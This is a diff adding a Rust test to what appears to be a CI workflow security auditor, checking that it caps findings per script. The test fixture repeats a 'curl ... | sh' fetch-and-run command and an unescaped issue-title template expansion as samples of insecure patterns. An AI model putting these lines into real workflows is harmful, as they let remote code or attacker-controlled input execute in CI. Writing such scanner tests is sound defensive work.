@@ -709,6 +709,30 @@ fn hostile_files_are_errors_and_the_rest_is_audited() {
 }
 
 #[test]
+fn reports_per_script_are_capped() {
+    let mut text = String::from(
+        "on: issues\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n",
+    );
+    for _ in 0..100 {
+        text.push_str("          echo \"${{ github.event.issue.title }}\"\n");
+        text.push_str("          curl -s https://x | sh\n");
+    }
+    let (findings, err) = audit_file(".github/workflows/many.yml", &text);
+    assert!(err.is_none());
+    let count = |id: &str| findings.iter().filter(|f| f.audit == id).count();
+    assert_eq!(count("template-injection"), 32);
+    assert_eq!(count("curl-pipe-shell"), 32);
+    // The first ones are reported, each at its own line.
+    let lines: Vec<u32> = findings
+        .iter()
+        .filter(|f| f.audit == "template-injection")
+        .map(|f| f.line)
+        .take(3)
+        .collect();
+    assert_eq!(lines, [8, 10, 12]);
+}
+
+#[test]
 fn gitlab_missing_include_is_an_error() {
     let dir = tempfile::tempdir().unwrap();
     std::fs::write(
